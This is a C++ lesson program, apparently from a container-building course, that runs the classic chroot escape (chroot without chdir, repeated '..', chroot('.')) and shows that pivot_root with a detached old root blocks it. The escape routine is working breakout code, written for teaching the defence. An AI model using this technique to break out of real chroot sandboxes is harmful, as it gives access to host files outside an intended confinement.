// lv1 step 4: the classic chroot escape, and why pivot_root stops it.
//
//   sudo build/lessons/lv1-04-breakout chroot build/rootfs/busybox-rootfs    escapes
//   sudo build/lessons/lv1-04-breakout pivot  build/rootfs/busybox-rootfs    stays inside
//
// A third argument names the file that only the host has (default
// /etc/os-release: the busybox image has no such file). Seeing it means
// we got out. Needs root. Man pages: chroot(2), pivot_root(2),
// path_resolution(7) (how ".." works at the root).
#include <errno.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <string>

namespace {

int fail(const char* what) {
  std::printf("child: %s: %s\n", what, strerror(errno));
  return 125;
}

// Prints whether `marker` can be seen from where our root is now.
bool report(const char* when, const char* marker) {
  std::ifstream in(marker);
  std::string first_line;
  if (in && std::getline(in, first_line)) {
    std::printf("child: %s: %s is visible (%s): this is the host's /\n", when, marker,
                first_line.c_str());
    return true;
  }
  std::printf("child: %s: %s is not visible: this is the image's /\n", when, marker);
  return false;
}

// The escape. It needs only root inside the chroot (CAP_SYS_CHROOT).
void escape() {
  // 1. A new directory, and chroot into it *without* chdir. Our working
  //    directory (the image's /) is now outside our root directory.
  mkdir("/tmp/escape", 0700);
  if (chroot("/tmp/escape") < 0) {
    std::printf("child: chroot(\"/tmp/escape\"): %s\n", strerror(errno));
    return;
  }
  std::printf("child: chroot(\"/tmp/escape\") = ok, but the working directory stays outside it\n");
  // 2. The kernel stops ".." only where it meets our root directory. Our walk
  //    starts above that root, so it never meets it: ".." climbs on, up to
  //    the top of the mount namespace. More ".." there do nothing.
  for (int i = 0; i < 64; ++i) {
    if (chdir("..") < 0) {
      std::printf("child: chdir(\"..\"): %s\n", strerror(errno));
      return;
    }
  }
  // 3. Make the place we reached our root.
  if (chroot(".") < 0) {
    std::printf("child: chroot(\".\"): %s\n", strerror(errno));
    return;
  }
  std::printf("child: 64 x chdir(\"..\"), then chroot(\".\") = ok\n");
}

int child_main(bool use_pivot, const char* rootfs, const char* marker) {
  // The same start as step 3: private mounts, the image read-only.
  if (mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) < 0) return fail("make / private");
  if (mount(rootfs, rootfs, nullptr, MS_BIND | MS_REC, nullptr) < 0) return fail("bind rootfs");
  if (mount(nullptr, rootfs, nullptr, MS_REMOUNT | MS_BIND | MS_RDONLY, nullptr) < 0)
    return fail("make rootfs read-only");
  // The escape needs a directory it can create. A tmpfs on the image's /tmp
  // gives it one (in memory, and only in this mount namespace).
  std::string tmp = std::string(rootfs) + "/tmp";
  if (mount("tmpfs", tmp.c_str(), "tmpfs", 0, "size=1m") < 0) return fail("mount tmpfs on /tmp");

  if (use_pivot) {
    // Step 3's way: the old root leaves the mount namespace completely.
    if (chdir(rootfs) < 0) return fail("chdir rootfs");
    if (syscall(SYS_pivot_root, ".", ".") < 0) return fail("pivot_root");
    if (umount2(".", MNT_DETACH) < 0) return fail("umount2");
    if (chdir("/") < 0) return fail("chdir /");
    std::printf("child: pivot_root + umount2(MNT_DETACH) into %s\n", rootfs);
  } else {
    // lv0's way: chroot. The host's tree is still in our mount namespace,
    // only hidden above our root directory.
    if (chroot(rootfs) < 0) return fail("chroot");
    if (chdir("/") < 0) return fail("chdir /");
    std::printf("child: chroot(\"%s\") + chdir(\"/\")\n", rootfs);
  }
  report("before the escape", marker);
  escape();
  report("after the escape", marker);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string mode = argc > 1 ? argv[1] : "";
  if (argc < 3 || (mode != "chroot" && mode != "pivot")) {
    std::fprintf(stderr, "usage: %s chroot|pivot ROOTFS [MARKER]\n", argv[0]);
    return 2;
  }
  const char* rootfs = argv[2];
  const char* marker = argc > 3 ? argv[3] : "/etc/os-release";

  struct clone_args args {};
  // Our own mount namespace even for chroot: the tmpfs and the read-only
  // bind must not appear on the host. (pocker --no-pivot does the same.)
  args.flags = CLONE_NEWNS;
  args.exit_signal = SIGCHLD;
  std::fflush(stdout);
  long pid = syscall(SYS_clone3, &args, sizeof args);
  if (pid < 0) {
    std::printf("parent: clone3(CLONE_NEWNS): %s\n", strerror(errno));
    return 1;
  }
  if (pid == 0) {
    int code = child_main(mode == "pivot", rootfs, marker);
    std::fflush(stdout);
    _exit(code);
  }
  int status = 0;
  while (waitpid(static_cast<pid_t>(pid), &status, 0) < 0) {
    if (errno != EINTR) {
      std::perror("waitpid");
      return 1;
    }
  }
  int code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  std::printf("parent: child %ld ended, shell status %d\n", pid, code);
  return code;
}
